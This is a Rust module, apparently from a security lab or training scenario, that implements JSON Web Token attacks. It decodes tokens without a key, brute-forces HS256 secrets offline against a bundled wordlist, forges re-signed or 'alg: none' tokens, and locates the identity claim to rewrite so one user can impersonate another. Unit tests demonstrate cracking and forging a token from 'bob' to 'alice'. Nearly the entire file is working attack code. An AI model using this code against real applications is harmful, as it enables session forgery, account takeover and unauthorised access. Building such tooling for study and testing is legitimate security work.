//! JSON Web Tokens as an attacker handles them: read one without any key,
//! find its HS256 key offline against a wordlist, and write new ones, signed
//! with that key or with `alg: none`.
//!
//! Only the format and HMAC-SHA256 (the `hmac` and `sha2` crates) are used:
//! nothing here talks to the app, so the target-file work can reuse it on a
//! token found anywhere.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use serde_json::{Map, Value};
use sha2::Sha256;

pub mod cookie_session;
pub mod flask;

/// Secrets published in tutorials and framework docs
/// (`scenarios/wordlists/jwt-secrets.txt`, compiled in).
pub const PUBLISHED_SECRETS: &str = include_str!("../../../scenarios/wordlists/jwt-secrets.txt");

/// The candidate secrets of a wordlist: one a line, `#` comments and blank lines skipped.
pub fn wordlist(text: &str) -> impl Iterator<Item = &str> {
    text.lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
}

/// A token read without its key: header and claims as JSON objects.
#[derive(Debug, Clone, PartialEq)]
pub struct Jwt {
    pub header: Map<String, Value>,
    pub claims: Map<String, Value>,
    /// `header.payload` as it came: what the signature covers.
    pub signing_input: String,
    pub signature: Vec<u8>,
}

impl Jwt {
    /// The header's `alg`, as the token states it.
    pub fn alg(&self) -> Option<&str> {
        self.header.get("alg").and_then(Value::as_str)
    }

    /// A claim as text (`sub`, ...).
    pub fn claim(&self, name: &str) -> Option<&str> {
        self.claims.get(name).and_then(Value::as_str)
    }
}

/// Decodes `header.payload.signature` (base64url JSON objects); `None` for
/// anything else. No key is needed: a JWT is signed, not encrypted.
pub fn decode(token: &str) -> Option<Jwt> {
    let (signing_input, signature) = token.rsplit_once('.')?;
    let (header, payload) = signing_input.split_once('.')?;
    let object = |part: &str| -> Option<Map<String, Value>> {
        match serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()? {
            Value::Object(map) => Some(map),
            _ => None,
        }
    };
    Some(Jwt {
        header: object(header)?,
        claims: object(payload)?,
        signing_input: signing_input.to_owned(),
        signature: URL_SAFE_NO_PAD.decode(signature).ok()?,
    })
}

fn mac(key: &[u8], signing_input: &str) -> Hmac<Sha256> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC takes a key of any length");
    mac.update(signing_input.as_bytes());
    mac
}

/// The secret of `candidates` whose HMAC-SHA256 reproduces the token's
/// signature, if any: the offline attack, which never asks the server.
pub fn crack<'a>(jwt: &Jwt, candidates: impl IntoIterator<Item = &'a str>) -> Option<&'a str> {
    candidates.into_iter().find(|secret| {
        mac(secret.as_bytes(), &jwt.signing_input)
            .verify_slice(&jwt.signature)
            .is_ok()
    })
}

fn encode(header: &Value, claims: &Map<String, Value>) -> String {
    format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        URL_SAFE_NO_PAD.encode(Value::Object(claims.clone()).to_string())
    )
}

/// A new HS256 token with `claims`, signed with `key`.
pub fn sign_hs256(claims: &Map<String, Value>, key: &[u8]) -> String {
    let signing_input = encode(&serde_json::json!({"alg": "HS256", "typ": "JWT"}), claims);
    let signature = URL_SAFE_NO_PAD.encode(mac(key, &signing_input).finalize().into_bytes());
    format!("{signing_input}.{signature}")
}

/// A token with `claims` and `alg: none`: no signature at all (the trailing
/// dot stays, as RFC 7519's unsecured JWTs have it).
pub fn unsigned(claims: &Map<String, Value>) -> String {
    format!(
        "{}.",
        encode(&serde_json::json!({"alg": "none", "typ": "JWT"}), claims)
    )
}

/// Claims that name the signed-in user in the wild, most usual first.
pub const IDENTITY_CLAIMS: &[&str] = &[
    "sub", "user", "username", "name", "login", "email", "uid", "user_id",
];

/// The claim that holds `username`: the first of [`IDENTITY_CLAIMS`] whose
/// value it is, else any other top-level claim whose value it is. The claim
/// the forger rewrites; `None` when the token names its user otherwise (a
/// database number the attacker cannot map to the victim).
pub fn identity_claim(jwt: &Jwt, username: &str) -> Option<String> {
    key_holding(&jwt.claims, username)
}

/// The key of `data` whose value is `username`: the first of
/// [`IDENTITY_CLAIMS`] holding it, else any other. Shared by every format
/// that carries its user in a JSON object (JWT claims, Flask and
/// cookie-session sessions).
pub fn key_holding(data: &Map<String, Value>, username: &str) -> Option<String> {
    let holds = |key: &str| data.get(key).and_then(Value::as_str) == Some(username);
    IDENTITY_CLAIMS
        .iter()
        .find(|key| holds(key))
        .map(|key| key.to_string())
        .or_else(|| {
            data.iter()
                .find(|(_, value)| value.as_str() == Some(username))
                .map(|(key, _)| key.clone())
        })
}

/// What a cookie that is no JWT is, when its format says (`names`: every
/// cookie the browser holds, for `cookie-session`'s `NAME.sig` companion).
/// Said to the user as the reason a forgery does not apply.
pub fn other_format(name: &str, value: &str, names: &[&str]) -> Option<&'static str> {
    let decoded = value.replace("%3A", ":").replace("%3a", ":");
    if decoded.starts_with("s:") && decoded.contains('.') {
        return Some(
            "express-session's signed session ID (s:<id>.<signature>): its secret signs IDs only, so cracking it forges no identity (who is signed in stays on the server)",
        );
    }
    if names.contains(&format!("{name}.sig").as_str()) {
        return Some(
            "express cookie-session's data, signed in its .sig companion (Keygrip's HMAC-SHA1), not a JWT (forged-cookie cracks cookie-session's own format)",
        );
    }
    let parts: Vec<&str> = value.split('.').collect();
    let json_part = |part: &str| {
        URL_SAFE_NO_PAD
            .decode(part)
            .ok()
            .and_then(|bytes| serde_json::from_slice::<Value>(&bytes).ok())
            .is_some()
    };
    // itsdangerous: payload.timestamp.signature, or .zlib-payload.timestamp.signature.
    if (parts.len() == 3 && json_part(parts[0])) || (parts.len() == 4 && parts[0].is_empty()) {
        return Some(
            "a Flask/itsdangerous signed session (payload.timestamp.signature), not a JWT (forged-cookie cracks Flask's own session format)",
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use rand::RngCore;
    use serde_json::json;

    use super::*;

    fn claims(sub: &str) -> Map<String, Value> {
        json!({"sub": sub, "iat": 1_700_000_000})
            .as_object()
            .cloned()
            .expect("an object")
    }

    #[test]
    fn a_token_signed_with_a_published_secret_is_cracked_and_reforged() {
        let token = sign_hs256(&claims("bob"), b"38sisjsk92");
        let jwt = decode(&token).expect("a JWT");
        assert_eq!(jwt.alg(), Some("HS256"));
        assert_eq!(jwt.claim("sub"), Some("bob"));
        let secret = crack(&jwt, wordlist(PUBLISHED_SECRETS)).expect("on the list");
        assert_eq!(secret, "38sisjsk92");
        let forged = decode(&sign_hs256(&claims("alice"), secret.as_bytes())).expect("a JWT");
        assert_eq!(
            crack(&forged, [secret]),
            Some(secret),
            "signed with the key"
        );
        assert_eq!(forged.claim("sub"), Some("alice"));
    }

    #[test]
    fn the_wordlist_fails_against_a_random_256_bit_key() {
        let mut key = [0u8; 32];
        rand::rng().fill_bytes(&mut key);
        let jwt = decode(&sign_hs256(&claims("bob"), &key)).expect("a JWT");
        assert_eq!(crack(&jwt, wordlist(PUBLISHED_SECRETS)), None);
    }

    #[test]
    fn the_wordlist_holds_the_seed_and_documented_secrets_and_no_comments() {
        let words: Vec<&str> = wordlist(PUBLISHED_SECRETS).collect();
        for known in [
            "38sisjsk92",
            "keyboard cat",
            "your-256-bit-secret",
            "secret",
        ] {
            assert!(words.contains(&known), "{known}");
        }
        assert!(words.iter().all(|w| !w.starts_with('#')));
    }

    #[test]
    fn an_unsigned_token_says_none_and_has_no_signature() {
        let jwt = decode(&unsigned(&claims("alice"))).expect("a JWT");
        assert_eq!(jwt.alg(), Some("none"));
        assert!(jwt.signature.is_empty());
        assert_eq!(jwt.claim("sub"), Some("alice"));
    }

    #[test]
    fn the_identity_claim_is_the_one_holding_the_username() {
        let jwt = |claims: Value| {
            decode(&sign_hs256(claims.as_object().expect("an object"), b"k")).expect("a JWT")
        };
        let lab = jwt(json!({"sub": "bob", "iat": 1}));
        assert_eq!(identity_claim(&lab, "bob").as_deref(), Some("sub"));
        let numbered = jwt(json!({"sub": "42", "username": "bob"}));
        assert_eq!(
            identity_claim(&numbered, "bob").as_deref(),
            Some("username")
        );
        let odd = jwt(json!({"who": "bob"}));
        assert_eq!(identity_claim(&odd, "bob").as_deref(), Some("who"));
        assert_eq!(identity_claim(&numbered, "alice"), None);
    }

    #[test]
    fn signed_ids_and_other_formats_are_told_apart() {
        let express = "s%3AhE2rZ4TbTq0.7mFq1Yk0d3Wq";
        let said = other_format("connect.sid", express, &["connect.sid"]).expect("known");
        assert!(said.contains("express-session"), "{said}");
        let flask = format!(
            "{}.ZmZ1bw.c2ln",
            URL_SAFE_NO_PAD.encode(r#"{"user":"bob"}"#)
        );
        let said = other_format("session", &flask, &["session"]).expect("known");
        assert!(said.contains("itsdangerous"), "{said}");
        let said =
            other_format("session", "eyJ1IjoxfQ==", &["session", "session.sig"]).expect("known");
        assert!(said.contains("cookie-session"), "{said}");
        assert_eq!(other_format("sessionid", "abc123", &["sessionid"]), None);
    }

    #[test]
    fn what_is_not_a_jwt_does_not_decode() {
        for value in ["", "abc", "a.b", "a.b.c", "AAAAAAAAAAAAAAAAAAAAAA"] {
            assert!(decode(value).is_none(), "{value:?}");
        }
    }
}
